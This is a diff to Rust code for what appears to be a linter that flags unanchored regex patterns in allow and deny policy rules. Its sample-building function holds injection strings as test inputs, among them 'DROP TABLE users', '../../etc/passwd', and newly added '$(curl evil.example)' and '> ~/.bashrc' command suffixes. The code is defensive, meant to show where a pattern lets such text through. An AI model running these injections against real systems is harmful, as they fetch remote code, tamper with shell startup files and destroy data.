@@ -10,7 +10,6 @@ use super::{
 use crate::analysis::{Analysis, Language, Set};
 use crate::finding::{Finding, Fix, Severity};
 use crate::lint::{Context, Reporter};
-use crate::policy::condition::Test;
 use crate::policy::re2::{Bounds, Pattern, Shape};
 use crate::suggest::quoted;
 
@@ -27,7 +26,9 @@ fn check(context: &Context<'_>, reporter: &mut Reporter<'_>) {
     site::report_each(context, reporter, |context, site, reporter| {
         match site.denies() {
             true => too_much(context, site, reporter),
-            false => too_little(context, site, reporter),
+            false => {
+                too_little(context, site, reporter).or_else(|| contained(context, site, reporter))
+            }
         }
     });
 }
@@ -55,8 +56,10 @@ fn too_little(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -
         false => Severity::Error,
     };
     let finding = site.finding(context, reporter, message).severity(severity);
-    let is_whole = through.kind == Kind::Visible && !bound_somewhere;
-    let bound = bound(pattern, &shape).filter(|_| is_whole);
+    let may_be_whole = through.kind == Kind::Visible
+        && !bound_somewhere
+        && describes_whole(site, pattern, &context.analysis);
+    let bound = bound(pattern, &shape).filter(|_| may_be_whole);
     Some(match bound {
         Some(bound) => {
             let edits = context
@@ -74,6 +77,28 @@ fn too_little(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -
             _ => "write a pattern for the whole argument, from `^` to `$`",
         }),
     })
+}
+
+/// A part of a command or statement that is required, whatever stands around it.
+fn contained(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -> Option<Finding> {
+    let part = site.substring()?;
+    if !matches!(site.holds(), Holds::Command | Holds::Sql) || site.is_bound() {
+        return None;
+    }
+    let through = site.first_through(&context.analysis, around(part, site.holds()))?;
+    let message = format!(
+        "{} may stand anywhere in `{}`: {} gets through",
+        quoted(part),
+        site.path,
+        quoted(&through)
+    );
+    let finding = site.finding(context, reporter, message);
+    Some(finding.help(match site.is_list() {
+        true => site::HELP_FOR_LISTS,
+        false => {
+            "list what is allowed with `in`, or write a `regex` for the whole argument, from `^` to `$`"
+        }
+    }))
 }
 
 /// A text that gets past a pattern.
@@ -105,9 +130,7 @@ fn passing(site: &Site<'_>, pattern: &Pattern, analysis: &Analysis) -> Option<Th
         return None;
     }
     let bound_somewhere = bounds.start || bounds.end;
-    if is_bound_elsewhere(site, bounds)
-        || (bound_somewhere && is_prefix_or_host(site, bounds, analysis))
-    {
+    if site.is_bound() || (bound_somewhere && is_prefix_or_host(site, bounds, analysis)) {
         return None;
     }
     let more = |within: &[Language]| {
@@ -139,6 +162,28 @@ pub(super) fn is_found_anywhere(site: &Site<'_>, analysis: &Analysis) -> bool {
     !bounds.start && !bounds.end && passing(site, pattern, analysis).is_some()
 }
 
+/// Whether `pattern` may be meant for the whole argument: what it matches is more than a character,
+/// and no part of a text, a URL or a path.
+fn describes_whole(site: &Site<'_>, pattern: &Pattern, analysis: &Analysis) -> bool {
+    let is_one_thing = matches!(
+        site.holds(),
+        Holds::Command | Holds::Host | Holds::Name | Holds::Unknown
+    );
+    if !is_one_thing || pattern.source().contains(r"\b") {
+        return false;
+    }
+    let whole = Language::shape(&format!(r"\A(?:{})\z", pattern.translated()));
+    let Ok((whole, long)) = whole.and_then(|whole| Ok((whole, Language::shape("..")?))) else {
+        return false;
+    };
+    let long = Set::strings(&[Language::found(pattern), whole, long], &[]);
+    let open = |c: char| matches!(c, '/' | '@' | '.' | ':' | '-' | '=' | ' ');
+    analysis
+        .string_in(&long)
+        .yes()
+        .is_some_and(|text| !text.starts_with(open) && !text.ends_with(open))
+}
+
 /// A pattern for a name, in a denial, that is found in other names too.
 fn too_much(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -> Option<Finding> {
     let analysis = &context.analysis;
@@ -160,23 +205,6 @@ fn too_much(context: &Context<'_>, site: &Site<'_>, reporter: &Reporter<'_>) -> 
             .severity(Severity::Note)
             .help("bind it with `^(?:…)$` if it is to deny these names only"),
     )
-}
-
-/// Whether the other things that are required of the argument bind it, with `bounds`, at both ends.
-fn is_bound_elsewhere(site: &Site<'_>, bounds: Bounds) -> bool {
-    let (mut start, mut end) = (bounds.start, bounds.end);
-    for test in site.required() {
-        match test {
-            Test::Regex(pattern) => {
-                let bounds = pattern.shape().bounds();
-                start |= bounds.start;
-                end |= bounds.end;
-            }
-            Test::Eq(_) | Test::In(_) => return true,
-            _ => {}
-        }
-    }
-    start && end
 }
 
 /// Whether another rule looks after what an end that is not bound leaves open.
@@ -211,17 +239,27 @@ fn around(matched: &str, holds: Holds) -> Vec<String> {
         Holds::Sql => ("DROP TABLE users; ", "; DROP TABLE users"),
         Holds::Url => ("https://evil.example/?", "&evil"),
         Holds::Host => ("evil-", ".evil.example"),
+        Holds::Image => ("evil.example/", "/evil"),
         Holds::Email => ("eve@evil.example,", ",eve@evil.example"),
         Holds::Path => ("../../etc/", "/../../etc/passwd"),
         Holds::Name => ("not-", "-not"),
         Holds::Prose | Holds::Unknown => ("anything ", " anything"),
     };
-    vec![
+    let behind = match matched.ends_with(' ') {
+        true => behind.trim_start(),
+        false => behind,
+    };
+    let mut samples = vec![
         format!("{before}{matched}"),
         format!("{matched}{behind}"),
         format!("{before}{matched}{behind}"),
         format!("{}\n{matched}", before.trim_end()),
-    ]
+    ];
+    if holds == Holds::Command {
+        samples.push(format!("{matched}$(curl evil.example)"));
+        samples.push(format!("{matched}> ~/.bashrc"));
+    }
+    samples
 }
 
 /// The pattern, bound at both ends.
